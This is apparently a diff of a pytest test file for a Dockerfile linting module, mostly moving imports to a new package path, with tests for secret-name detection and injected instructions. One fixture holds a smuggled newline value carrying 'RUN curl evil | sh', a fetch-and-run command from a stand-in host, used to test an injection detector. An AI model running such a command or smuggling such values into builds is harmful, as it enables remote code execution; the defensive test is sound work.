@@ -6,8 +6,8 @@ from datetime import date
 
 import pytest
 
-from dcs_magic import dockerfile
-from dcs_magic.dockerfile import Finding, final_base, parse, runtime_paths, stages
+from dcs_magic.model import dockerfile
+from dcs_magic.model.dockerfile import Finding, final_base, parse, runtime_paths, stages
 
 DIGEST = "sha256:" + "0123456789abcdef" * 4
 PY3_PIP = "/databricks/python3/bin/pip"
@@ -404,7 +404,7 @@ def test_r_base_needs_the_nfs_conf(base: str) -> None:
     ("KEYRING", False), ("VERSION", False),
 ])
 def test_looks_like_secret_follows_buildkit(name: str, secret: bool) -> None:
-    from dcs_magic.dockerfile import looks_like_secret
+    from dcs_magic.model.dockerfile import looks_like_secret
 
     assert looks_like_secret(name) is secret
 
@@ -416,7 +416,7 @@ def test_secret_arg_and_env_names_are_linted() -> None:
 
 
 def test_injected_instructions_marks_only_lines_a_newline_made() -> None:
-    from dcs_magic.dockerfile import injected_instructions
+    from dcs_magic.model.dockerfile import injected_instructions
 
     text = "FROM a:1\nRUN echo 1\nRUN curl evil | sh\nRUN true\n"
     [finding] = injected_instructions(text, ["1\nRUN curl evil | sh", "single line", 5])
@@ -425,7 +425,7 @@ def test_injected_instructions_marks_only_lines_a_newline_made() -> None:
 
 
 def test_with_label_instruction_appends_one_label_step_when_it_is_safe() -> None:
-    from dcs_magic.dockerfile import parse, with_label_instruction
+    from dcs_magic.model.dockerfile import parse, with_label_instruction
 
     labels = {"dcs_magic.dockerfile.sha256": "ab" * 32, "dcs_magic.base_digest": "reg:5000/a/b@sha256:" + "c" * 64}
     out = with_label_instruction("FROM x\nRUN a", labels)
